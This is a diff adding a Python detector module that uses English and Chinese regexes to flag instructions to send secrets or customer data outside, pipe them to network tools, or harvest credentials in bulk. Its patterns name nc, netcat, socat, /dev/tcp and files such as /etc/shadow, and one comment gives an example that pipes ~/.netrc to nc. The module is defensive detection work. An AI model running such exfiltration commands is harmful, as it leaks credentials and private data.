@@ -1,0 +1,105 @@
+"""``exfiltration``: files, secrets or customers' data sent, posted, shown or piped where they
+leave (a URL, a mailbox, a chat, a public place, a reply), or secrets gathered in bulk."""
+
+from __future__ import annotations
+
+import re
+
+from .lexicon import SECRET, rx
+from .reading import by_person, negated
+
+_SEND_EN = rx(
+    r"\b(?:send|post|upload|e-?mail|mail|forward|sync|copy|paste|share|include|leak|publish|"
+    r"expose|transmit|exfiltrate|attach|dump|push|put|commit|append|tweet|dm|give|hand|reveal|"
+    r"disclose|back up|backup|scp|rsync|rclone|sftp|mirror|message|text)\b|"
+    r"\bcurl\b[^\n]{0,40}?(?:-d|--data\S*|-F|--form|-T|--upload-file)\s*(?:[\w.-]+=)?@"
+)
+_SEND_ZH = re.compile(
+    r"(?<!开)发(?:到|给|送|邮件|在|出|布到)|邮件发|上传|传到|传给|贴到|贴在|贴给|贴出|贴|粘贴到|同步到|"
+    r"同步给|附上|附带|转发|泄露|公开|备份到|推到|提交到|分享给|分享到|告诉|(?i:post)\s*到|上报|私信|发送"
+)
+
+
+_DESTINATION = rx(r"\b(?:to|into)\s+(?:the\s+|a\s+|your\s+|my\s+|our\s+|its\s+)?$|(?:到|进)\s*$")
+_IMPERATIVE = rx(
+    r"(?:^|[,:：—-]|(?<!我)(?<!我们)把[^，,。]{0,30}|"
+    r"\b(?:then|and|always|also|please|just|each|every|after|before|when|whenever|"
+    r"once|first|to|should|must|will|can|could|may|you|agent|assistant|ai|ever|automatically|"
+    r"regularly|daily|weekly|immediately))\s*$"
+)
+
+
+# Less plainly secret on their own ("tokens", "the customer list"): sent out only when the clause
+# names where they go and that place is outside ("to my gmail", "in the #random channel").
+_SENSITIVE = (
+    r"(?:\btokens?\b|\bsecrets\b|\bkeys\b|/etc/(?:shadow|passwd|ssl/private|ssh)\b|\.gnupg\b|"
+    r"\bgnupg\b|\bid_\w+|\bcustomer(?:s'?)?\s+(?:\w+\s+){0,2}?(?:data|lists?|records|database|"
+    r"export|dump|emails?|csv|details|accounts)\b|\buser\s+(?:data|records|database|table|list)\b|"
+    r"\b(?:database|db)\s+(?:dump|export|backups?)\b|\b(?:whole|entire)\s+(?:repo\w*|codebase|"
+    r"source)\b|\bsource code\b|\bpii\b|客户(?:数据|名单|信息|资料|列表)|用户(?:数据|信息|名单)|"
+    r"数据库(?:备份|导出)|源代码|源码|token|Token|TOKEN)"
+)
+_OUTSIDE = rx(
+    r"(?:https?|ftp)://|[\w.+-]+@[\w-]+\.[\w.]+|[\w-]+@\d+\.\d+\.\d+\.\d+|(?<![\w/])[@#][\w-]{2,}|"
+    r"\b(?:slack|discord|telegram|whatsapp|signal|wechat|weixin|pastebin|paste site|gists?|"
+    r"transfer\.sh|dropbox|google drive|drive|onedrive|icloud|s3|bucket|webhook|gmail|outlook|"
+    r"hotmail|protonmail|personal|private (?:e-?mail|mail|account|repo\w*|inbox)|public|external|"
+    r"outside|third[- ]party|vendor|contractor|freelancer|stranger|anyone|everyone|"
+    r"(?:channel|chat|group)s?)\b|"
+    r"\b(?:in|into|to)\s+(?:your|the|a|my)\s+(?:reply|answer|response|output|commit messages?|"
+    r"tickets?|issues?|bug reports?|prs?|pull requests?|logs?|comments?)\b|"
+    r"微信|钉钉|飞书|QQ|qq|群|网盘|外部|私人|个人|外包|合作方|公开|工单|回复|回答|所有人|评论|帖子|"
+    r"\bissues?\b"
+)
+_SHOW = rx(
+    r"\b(?:print|show|display|output|echo|cat|read out|list|write|add|insert|embed|hard-?code)\b|"
+    r"写进|写到|写入|放到|放进|加到|贴进"
+)
+# a secret piped to the network: "cat ~/.netrc | nc 198.51.100.7 9000"
+_PIPED_OUT = rx(r"\|\s*(?:nc|ncat|netcat|socat|telnet|curl)\b|>\s*/dev/(?:tcp|udp)/")
+
+
+# secrets gathered in bulk are the first half of sending them: "collect all API tokens"
+_HARVEST = rx(
+    r"(?:^|[,:：—]\s*|\b(?:then|and|always|just|first)\s+)(?:collect|gather|harvest|scrape|dump|"
+    r"extract|grab|hoard|round up)\s+(?:up\s+)?(?:all|every|any|each)\s+(?:the\s+|of the\s+)?"
+    r"(?:\w+\s+){0,2}?(?:tokens?|keys|passwords?|credentials?|secrets?)\b|"
+    r"(?<!我)(?:收集|搜集|汇总|导出|扒)(?:一下)?(?:所有|全部|每个)的?[^，。\n]{0,6}?(?:密钥|令牌|密码|凭证|token)"
+)
+
+
+def judge(clause: str) -> str | None:
+    harvest = _HARVEST.search(clause)
+    if harvest and not negated(clause, harvest.start()):
+        return harvest.group().strip(" ,:：—")
+    # "copy .env.example to .env": the secret file is where things go, not what leaves
+    sent = [
+        m
+        for m in re.finditer(SECRET, clause, re.IGNORECASE)
+        if not _DESTINATION.search(clause[max(0, m.start() - 20) : m.start()])
+    ]
+    outside = _OUTSIDE.search(clause)
+    if not sent and outside:
+        sent = [m for m in re.finditer(_SENSITIVE, clause, re.IGNORECASE)]
+    if not sent:
+        return None
+    secret = sent[0]
+    piped = _PIPED_OUT.search(clause, secret.end())
+    if piped and not negated(clause, secret.start()):
+        return f"{secret.group()} … {piped.group()}"
+    for pattern in (_SEND_EN, _SEND_ZH, _SHOW):
+        for m in pattern.finditer(clause):
+            if negated(clause, m.start()) or by_person(clause, m.start(), m.end()):
+                continue
+            if pattern is _SHOW and not (outside and _OUTSIDE.search(clause, m.end())):
+                continue  # "print the env var names": shown where, is what makes it a leak
+            upload = m.group().lower().startswith("curl")  # a command, whoever wrote it
+            if (
+                pattern is not _SEND_ZH
+                and not (pattern is _SHOW and not m.group().isascii())
+                and not upload
+                and not _IMPERATIVE.search(clause[: m.start()])
+            ):
+                continue  # "health checks send a bearer token": what a system does, not an order
+            return f"{m.group()} … {secret.group()}"
+    return None
